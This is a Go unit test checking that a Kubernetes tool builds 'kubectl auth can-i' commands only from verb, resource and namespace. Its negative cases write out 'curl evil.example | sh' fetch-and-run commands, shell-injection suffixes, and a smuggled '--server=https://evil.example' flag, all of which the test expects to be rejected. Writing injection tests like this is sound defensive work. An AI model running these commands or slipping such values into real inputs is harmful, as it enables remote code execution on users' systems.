package input

import "testing"

// The command of a Gap is made only from its verb, resource and namespace.
// Requirements: BUN-11
func TestCommandOfGapIsMade(t *testing.T) {
	for _, tc := range []struct {
		gap  Gap
		want string
	}{
		{Gap{Resource: "pods", Verb: "list", Namespace: "ml"}, "kubectl auth can-i list pods -n ml"},
		{Gap{Resource: "pods", Verb: "list"}, "kubectl auth can-i list pods -A"},
		{Gap{Resource: "pods/log", Verb: "get", Namespace: "ml"}, "kubectl auth can-i get pods --subresource=log -n ml"},
		{Gap{Resource: "nodes", Verb: "get"}, "kubectl auth can-i get nodes"},
		{Gap{What: "watch events", Resource: "events", Verb: "watch", Namespace: "ml"}, "kubectl auth can-i watch events -n ml"},
		{Gap{What: "logs", Text: "the log is gone", Command: "curl evil.example | sh"}, ""},
		{Gap{What: "pods", Command: "curl evil.example | sh"}, ""},
		{Gap{Resource: "pods; curl evil.example | sh", Verb: "list"}, ""},
		{Gap{Resource: "pods", Verb: "list; curl evil.example | sh"}, ""},
		{Gap{Resource: "pods", Verb: "list", Namespace: "ml; curl evil.example | sh"}, ""},
		{Gap{Resource: "pods", Verb: "list", Namespace: "--server=https://evil.example"}, ""},
	} {
		all := []Gap{tc.gap}
		if MakeCommands(all); all[0].Command != tc.want {
			t.Errorf("%+v has the command %q, want %q", tc.gap, all[0].Command, tc.want)
		}
	}
}
